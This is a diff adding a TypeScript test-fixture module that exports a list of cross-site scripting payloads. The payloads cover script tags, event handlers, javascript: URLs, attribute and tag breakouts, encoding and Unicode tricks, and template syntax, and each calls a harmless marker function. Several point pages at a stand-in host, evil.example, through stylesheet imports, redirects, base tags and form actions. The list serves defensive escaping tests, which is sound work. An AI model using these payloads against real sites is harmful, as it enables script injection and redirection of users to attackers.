@@ -1,0 +1,58 @@
+/**
+ * Texts that would run, break out or lie where a page does not escape them. Each calls `__xss` if it runs.
+ * @module
+ */
+
+const run = '__xss()'
+
+/** The payloads of a page's test: markup, attributes, addresses, templates, and what is invisible. */
+export const hostileTexts: readonly string[] = [
+  `<script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}">`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<body onload=${run}>`,
+  `<iframe src="javascript:${run}">`,
+  `<iframe srcdoc="<script>parent.${run}</script>">`,
+  `<object data="javascript:${run}">`,
+  `<embed src="javascript:${run}">`,
+  `<a href="javascript:${run}">x</a>`,
+  `javascript:${run}`,
+  `" onmouseover="${run}" x="`,
+  `' onmouseover='${run}' x='`,
+  `" autofocus onfocus=${run} x="`,
+  `"><script>${run}</script>`,
+  `'><script>${run}</script>`,
+  `--><script>${run}</script><!--`,
+  `]]><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</option></select><img src=x onerror=${run}>`,
+  `</pre><img src=x onerror=${run}>`,
+  `</style><script>${run}</script>`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<link rel=stylesheet href=https://evil.example/x.css>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<base href=https://evil.example/>`,
+  `<form action=https://evil.example/><button>x</button></form>`,
+  `<details open ontoggle=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
+  `<template><img src=x onerror=${run}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `&lt;img src=x onerror=${run}&gt;`,
+  `&#60;img src=x onerror=${run}&#62;`,
+  `\${${run}} {{${run}}} <%= ${run} %>`,
+  `\u202e<img src=x onerror=${run}>\u202c`,
+  `\u001b[31m<b onclick=${run}>red</b>\u001b[0m`,
+  `\u0000<\u0000script>${run}</script>`,
+  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
+  `＜script＞${run}＜/script＞`,
+  `<IMG SRC=x ONERROR=${run}>`,
+  `<img/src=x/onerror=${run}>`,
+  `\`${run}\``,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+]
